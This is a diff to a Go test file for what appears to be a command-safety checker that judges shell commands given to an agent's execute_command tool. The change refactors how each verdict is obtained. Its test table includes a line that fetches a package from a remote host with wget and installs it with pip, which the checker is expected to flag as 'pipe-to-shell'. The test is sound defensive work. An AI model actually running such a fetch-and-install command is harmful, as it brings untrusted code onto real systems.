@@ -1,9 +1,6 @@
 package shield
 
-import (
-	"context"
-	"testing"
-)
+import "testing"
 
 // Rules 13: batch schedulers run the command they are given (sbatch
 // --wrap's shell line, srun's and salloc's program), so it is judged like
@@ -27,8 +24,7 @@ func TestRules13_SchedulersAndAddresses(t *testing.T) {
 		{`wget -q https://h.example/p.whl && pip install ./p.whl`, "pipe-to-shell"},
 		{`gem install ./vendor/cache/n-0.1.0.gem`, ""},
 	} {
-		vs := s.Evaluate(context.Background(), Action{Tool: "execute_command", Command: c.line})
-		v := vs[len(vs)-1]
+		v := rulesVerdict(s, Action{Tool: "execute_command", Command: c.line})
 		want := c.rule
 		if want == "" {
 			want = "heuristics:none"
